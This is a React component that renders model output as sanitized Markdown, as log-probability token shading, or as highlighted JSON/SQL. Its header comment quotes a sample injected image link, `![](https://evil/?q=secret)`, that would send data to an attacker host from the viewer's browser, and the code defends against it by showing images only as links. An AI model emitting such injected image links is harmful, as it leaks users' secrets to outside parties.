"use client";
/**
 * Model output, rendered as Markdown (react-markdown without raw HTML: model output is untrusted
 * text, any tag in it shows as text) or token by token with log-probabilities. Images are never
 * loaded: an injected `![](https://evil/?q=secret)` would fetch that URL from the visitor's
 * browser without a click, so an image shows as a link to its address instead.
 *
 * Tasks whose card expects JSON or SQL get a code view instead of Markdown: plain text while it
 * streams (no per-token work), then pretty-printed and highlighted once the answer is final, and
 * for JSON a "valid JSON ✓/✗" line.
 */
import { memo, useEffect, useState } from "react";
import ReactMarkdown, { type Components } from "react-markdown";
import { checkJson, type OutputKind } from "./output-format";
import type { Highlighted } from "./highlight";
import type { TokenView } from "./run-state";

const components: Components = {
  img: ({ src, alt }) => {
    const href = typeof src === "string" ? src : "";
    return (
      <a href={href || undefined} rel="noopener noreferrer nofollow" target="_blank" data-testid="md-image-link" className="underline">
        [image{alt ? `: ${alt}` : ""}] {href}
      </a>
    );
  },
};

const Markdown = memo(function Markdown({ text }: { text: string }) {
  return (
    <div className="prose prose-sm max-w-none break-words dark:prose-invert [&_code]:rounded [&_code]:bg-zinc-100 [&_code]:px-1 dark:[&_code]:bg-zinc-800 [&_pre]:overflow-x-auto [&_pre]:rounded [&_pre]:bg-zinc-100 [&_pre]:p-2 dark:[&_pre]:bg-zinc-800">
      <ReactMarkdown skipHtml components={components}>
        {text}
      </ReactMarkdown>
    </div>
  );
});

/** probability → background: confident tokens pale, unlikely ones warm */
function shade(logprob: number | null): string {
  if (logprob === null) return "transparent";
  const p = Math.exp(logprob);
  return `hsla(${Math.round(p * 120)}, 80%, 50%, ${0.12 + 0.3 * (1 - p)})`;
}

function Tokens({ tokens }: { tokens: TokenView[] }) {
  return (
    <div className="whitespace-pre-wrap break-words font-mono text-sm leading-6" data-testid="token-view">
      {tokens.map((t, i) => {
        const alts = t.alternatives?.map((a) => `${JSON.stringify(a.text)} ${a.logprob.toFixed(3)}`).join("\n");
        const title = `${JSON.stringify(t.text)}  logprob ${t.logprob === null ? "n/a" : t.logprob.toFixed(3)}${t.special ? " (special)" : ""}${alts ? `\nalternatives:\n${alts}` : ""}`;
        return (
          <span
            key={i}
            data-testid="token"
            data-logprob={t.logprob ?? ""}
            title={title}
            style={{ background: shade(t.logprob) }}
            className={`rounded-sm outline-1 outline-zinc-300 hover:outline ${t.special ? "text-zinc-400 italic" : ""}`}
          >
            {t.text === "" ? "\u200b" : t.text}
          </span>
        );
      })}
    </div>
  );
}

/** highlight.js token classes → colours, light and dark (its own themes are global stylesheets) */
const HLJS_COLORS = [
  "[&_.hljs-attr]:text-sky-700 dark:[&_.hljs-attr]:text-sky-300",
  "[&_.hljs-string]:text-emerald-700 dark:[&_.hljs-string]:text-emerald-300",
  "[&_.hljs-number]:text-amber-700 dark:[&_.hljs-number]:text-amber-300",
  "[&_.hljs-literal]:text-violet-700 dark:[&_.hljs-literal]:text-violet-300",
  "[&_.hljs-keyword]:font-semibold [&_.hljs-keyword]:text-violet-700 dark:[&_.hljs-keyword]:text-violet-300",
  "[&_.hljs-built_in]:text-sky-700 dark:[&_.hljs-built_in]:text-sky-300",
  "[&_.hljs-type]:text-sky-700 dark:[&_.hljs-type]:text-sky-300",
  "[&_.hljs-operator]:text-rose-700 dark:[&_.hljs-operator]:text-rose-300",
  "[&_.hljs-punctuation]:text-slate-500 dark:[&_.hljs-punctuation]:text-slate-400",
  "[&_.hljs-comment]:italic [&_.hljs-comment]:text-slate-500",
].join(" ");

const CODE_BOX = "whitespace-pre-wrap break-words rounded bg-slate-50 p-2 font-mono text-sm leading-6 dark:bg-slate-900";

/** A JSON or SQL answer: raw while it streams, highlighted (loaded on demand) once final. */
function CodeView({ kind, text, final }: { kind: "json" | "sql"; text: string; final: boolean }) {
  const [done, setDone] = useState<(Highlighted & { of: string }) | null>(null);
  useEffect(() => {
    if (!final) return;
    let live = true;
    void import("./highlight")
      .then((m) => m.highlight(kind, text))
      .then((h) => {
        if (live) setDone({ ...h, of: text });
      });
    return () => {
      live = false;
    };
  }, [kind, text, final]);
  const json = kind === "json" && final ? checkJson(text) : null;
  const shown = final && done?.of === text ? done : null;
  return (
    <div className="flex flex-col gap-1">
      {json && (
        <p
          data-testid="json-validity"
          data-valid={json.valid}
          title={json.valid ? undefined : json.error}
          className={`self-start rounded px-1.5 py-0.5 text-xs font-medium ${json.valid ? "bg-emerald-50 text-emerald-800 dark:bg-emerald-950 dark:text-emerald-200" : "bg-red-50 text-red-800 dark:bg-red-950 dark:text-red-200"}`}
        >
          {json.valid ? "Valid JSON ✓" : "Not valid JSON ✗"}
          {!json.valid && <span className="sr-only">: {json.error}</span>}
        </p>
      )}
      {shown ? (
        <pre data-testid="code-output" data-language={kind} className={`${CODE_BOX} ${HLJS_COLORS}`}>
          {/* highlight.js output: the answer escaped, wrapped in <span class="hljs-…"> only */}
          <code dangerouslySetInnerHTML={{ __html: shown.html }} />
        </pre>
      ) : (
        <pre className={CODE_BOX}>{text}</pre>
      )}
    </div>
  );
}

export function StreamView({
  text,
  tokens,
  showTokens,
  streaming,
  kind = "text",
  final = !streaming,
}: {
  text: string;
  tokens: TokenView[];
  showTokens: boolean;
  streaming: boolean;
  /** what the task's card expects: JSON and SQL get the code view */
  kind?: OutputKind;
  /** the answer will not change any more (done, stopped, error, interrupted) */
  final?: boolean;
}) {
  return (
    <div data-testid="stream-output" data-kind={kind} aria-live="polite" aria-busy={streaming}>
      {showTokens ? <Tokens tokens={tokens} /> : kind === "text" ? <Markdown text={text} /> : <CodeView kind={kind} text={text} final={final} />}
      {streaming && <span className="ml-0.5 inline-block h-4 w-2 animate-pulse bg-zinc-400 align-middle" aria-hidden />}
      {/* the exact streamed text, for copy and for tests */}
      <pre data-testid="raw-output" hidden>
        {text}
      </pre>
    </div>
  );
}
